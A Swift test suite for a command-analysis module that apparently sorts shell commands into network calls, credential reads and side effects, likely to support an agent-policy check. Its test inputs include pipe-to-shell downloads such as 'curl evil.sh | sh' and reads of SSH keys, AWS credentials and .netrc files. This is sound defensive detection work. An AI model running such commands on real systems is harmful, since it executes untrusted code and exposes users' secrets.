import BosunPolicy
import Testing

@Suite struct CommandAnalysisTests {
    @Test func network() {
        #expect(CommandAnalysis.analyze("curl https://example.com").network == ["curl example.com"])
        #expect(
            CommandAnalysis.analyze("curl -H 'Accept: x' -o out.json https://user@api.example.com:8443/v1?q=1").network
                == ["curl api.example.com"])
        #expect(CommandAnalysis.analyze("wget -qO- example.org/install.sh | sh").network == ["wget example.org"])
        #expect(CommandAnalysis.analyze("ssh -p 2222 deploy@web-1 uptime").network == ["ssh web-1"])
        #expect(CommandAnalysis.analyze("scp a.txt me@box:/tmp/").network == ["scp box"])
        #expect(CommandAnalysis.analyze("git push origin main").network == ["git push origin main"])
        #expect(CommandAnalysis.analyze("git -C repo fetch --all").network == ["git fetch"])
        #expect(CommandAnalysis.analyze("git clone https://github.com/o/r").network == ["git clone github.com"])
        #expect(CommandAnalysis.analyze("pip install requests").network == ["pip install requests"])
        #expect(CommandAnalysis.analyze("docker pull alpine").network == ["docker pull alpine"])
        #expect(CommandAnalysis.analyze("echo $(curl evil.sh | sh)").network == ["curl evil.sh"])
        #expect(CommandAnalysis.analyze("ls -la && git status").network.isEmpty)
    }

    @Test func credentials() {
        #expect(CommandAnalysis.analyze("cat ~/.ssh/id_rsa").credentials == ["~/.ssh/id_rsa"])
        #expect(CommandAnalysis.analyze("source .env && make").credentials == [".env"])
        #expect(CommandAnalysis.analyze("cat .env.example").credentials.isEmpty)
        #expect(CommandAnalysis.analyze("openssl x509 -in cert.pem").credentials == ["cert.pem"])
        #expect(CommandAnalysis.analyze("cat < ~/.aws/credentials").credentials == ["~/.aws/credentials"])
        #expect(CommandAnalysis.analyze("cat ~/.netrc").credentials == ["~/.netrc"])
        #expect(CommandAnalysis.analyze("gh auth token").credentials == ["gh auth token"])
        #expect(
            CommandAnalysis.analyze("curl -H \"Authorization: $GITHUB_TOKEN\" -u x:${DB_PASSWORD} x.io").credentials
                == ["$GITHUB_TOKEN", "$DB_PASSWORD"])
        #expect(CommandAnalysis.analyze("echo $HOME $PATH").credentials.isEmpty)
        #expect(CommandAnalysis.analyze("printenv").credentials == ["printenv"])
        #expect(CommandAnalysis.analyze("env | grep AWS").credentials == ["env"])
        #expect(CommandAnalysis.analyze("env FOO=1 make").credentials.isEmpty)
        #expect(CommandAnalysis.analyze("set -euo pipefail").credentials.isEmpty)
    }

    @Test func sideEffects() {
        #expect(CommandAnalysis.analyze("rm -rf build").sideEffects == ["rm -rf build"])
        #expect(CommandAnalysis.analyze("make > build.log 2>&1").sideEffects == ["writes build.log"])
        #expect(CommandAnalysis.analyze("ls > /dev/null").sideEffects.isEmpty)
        #expect(CommandAnalysis.analyze("git commit -m x && git push").sideEffects == ["git commit -m x", "git push"])
        #expect(CommandAnalysis.analyze("git reset --hard HEAD~1").sideEffects == ["git reset --hard HEAD~1"])
        #expect(CommandAnalysis.analyze("git status && git log").sideEffects.isEmpty)
        #expect(CommandAnalysis.analyze("npm install left-pad").sideEffects == ["npm install left-pad"])
        #expect(CommandAnalysis.analyze("kill -9 42; systemctl restart nginx").sideEffects.count == 2)
        #expect(CommandAnalysis.analyze("docker run --rm alpine").sideEffects == ["docker run --rm …"])
        #expect(CommandAnalysis.analyze("sed -i s/a/b/ f").sideEffects == ["sed -i s/a/b/ f"])
        #expect(CommandAnalysis.analyze("sed -n 1p f").sideEffects.isEmpty)
        #expect(CommandAnalysis.analyze("kubectl get pods").sideEffects.isEmpty)
        #expect(CommandAnalysis.analyze("kubectl apply -f x").sideEffects == ["kubectl apply -f …"])
        #expect(CommandAnalysis.analyze("rm a; rm a").sideEffects == ["rm a"])
    }
}

@Suite struct CommandAnalysisGlobalOptionTests {
    @Test func gitAndGhGlobalOptionsDoNotHideTheSubcommand() {
        let git = CommandAnalysis.analyze("git --git-dir .git --no-pager push origin main")
        #expect(git.network.contains("git push origin main"))
        let gh = CommandAnalysis.analyze("gh -R o/r pr merge 1")
        #expect(gh.sideEffects.contains("gh pr merge …"))
    }
}
